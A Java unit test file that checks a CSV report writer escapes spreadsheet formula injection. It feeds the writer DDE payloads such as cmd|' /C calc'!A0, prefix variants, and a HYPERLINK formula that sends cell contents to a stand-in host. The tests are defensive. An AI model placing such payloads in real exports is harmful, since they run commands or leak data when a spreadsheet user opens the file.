package io.github.headroom4j.eval.report;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.headroom4j.eval.metric.CaseResult;
import io.github.headroom4j.eval.metric.EvidenceCount;
import io.github.headroom4j.eval.metric.Score;
import io.github.headroom4j.eval.metric.Subject;
import io.github.headroom4j.eval.metric.Usage;
import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvCellsTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"https://example.invalid/?\"&A1)",
                "+1+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "＝1+1",
                "-",
                "--1",
                "-1e",
                "+x",
                "-1.0.0"
            })
    void what_begins_like_a_formula_is_a_text(String formula) throws IOException {
        assertThat(cell(formula)).isEqualTo("'" + formula);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "-1", "-0.25", "+3", "-1.5E-7", "0", "case-1", "a=b", "'quoted", " =1", "e@x", "日本"})
    void figures_and_other_texts_stay_as_they_are(String text) throws IOException {
        assertThat(cell(text)).isEqualTo(text);
    }

    @Test
    void numbers_stay_numbers() throws IOException {
        StringBuilder out = new StringBuilder();
        try (CSVPrinter printer = new CSVPrinter(out, CSVFormat.RFC4180)) {
            CsvCells.print(printer, -1, -2.5, 3L, "-0.5");
        }
        assertThat(out.toString()).isEqualTo("-1,-2.5,3,-0.5\r\n");
    }

    @Test
    void names_in_a_report_are_no_formulas() throws IOException {
        String formula = "=cmd|' /C calc'!A0";
        Subject subject = new Subject(formula, formula, formula, "dev", formula);
        List<CaseResult> results = List.of("none", "headroom").stream()
                .map(arm -> new CaseResult(
                        subject,
                        arm,
                        new Score(1, 1, arm.equals("none") ? 1 : 0),
                        new Usage(1, 10, 0, 5),
                        new EvidenceCount(1, 0, 0)))
                .toList();
        List<Report.ArmAbout> arms = List.of(new Report.ArmAbout("none", "a"), new Report.ArmAbout("headroom", "b"));
        String csv = ReportCsv.text(Report.of(
                new Report.Setup(Reports.PROTOCOL, List.of(new Report.Part(formula, 1, "0")), arms, ""), results));

        List<CSVRecord> rows = CSVFormat.RFC4180.parse(new StringReader(csv)).getRecords();
        assertThat(rows).hasSizeGreaterThan(1);
        assertThat(rows.stream().flatMap(CSVRecord::stream)).noneMatch(cell -> cell.startsWith("="));
        // The lost answer's difference is a negative figure, and stays one.
        assertThat(rows.get(rows.size() - 1).get(19)).isEqualTo("-1");
    }

    private static String cell(String text) throws IOException {
        StringBuilder out = new StringBuilder();
        try (CSVPrinter printer = new CSVPrinter(out, CSVFormat.RFC4180)) {
            CsvCells.print(printer, "first", text);
        }
        return CSVFormat.RFC4180
                .parse(new StringReader(out.toString()))
                .getRecords()
                .get(0)
                .get(1);
    }
}
